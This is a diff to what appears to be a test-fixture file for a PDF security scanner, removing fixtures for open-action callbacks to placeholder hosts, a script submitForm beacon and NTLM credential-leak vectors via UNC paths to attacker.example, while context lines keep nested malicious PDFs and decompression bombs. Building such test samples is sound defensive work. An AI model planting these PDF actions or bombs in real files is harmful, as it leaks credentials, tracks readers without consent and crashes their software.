@@ -80,20 +80,6 @@ export const CORE_FIXTURES: TechniqueFixtures = {
   "nested-malicious-pdf": {
     "embedded-files-tree": () => pdfWithAttachments([{ name: "invoice.pdf", data: maliciousPdf(), subtype: "/application#2Fpdf" }]),
   },
-  "callback-without-consent": {
-    "open-action-uri": () => built(openAction("<< /S /URI /URI (https://track.example.net/open?id=7731) >>")),
-    "open-action-submitform": () => built(openAction("<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/c) >> /Flags 4 >>")),
-    "page-open-gotor-remote": () => built(pageOpen("<< /S /GoToR /F << /FS /URL /F (https://files.example.net/stage2.pdf) >> /D [0 /Fit] >>")),
-    "annotation-pv-uri": () => built({ annots: [annotWithAa("/PV << /S /URI /URI (http://198.51.100.7/pixel) >>")] }),
-  },
-  "script-network-callback": {
-    "open-action-submitform": () => built(openAction(scriptAction('this.submitForm({ cURL: "https://collect.example.net/f", cSubmitAs: "HTML" });'))),
-  },
-  "ntlm-credential-leak": {
-    "gotor-unc": () => built(pageOpen("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\report.pdf) /D [0 /Fit] >>")),
-    "launch-unc": () => built({ annots: [linkAnnot("<< /S /Launch /F (\\\\\\\\203.0.113.9\\\\pub\\\\viewer.exe) >>")] }),
-    "uri-file-scheme": () => built({ annots: [linkAnnot("<< /S /URI /URI (file://attacker.example/share/doc.docx) >>")] }),
-  },
   "decompression-bomb": {
     "flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter /FlateDecode", deflateSync(new Uint8Array(48 * 1024 * 1024))) }),
     "nested-flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024)))) }),
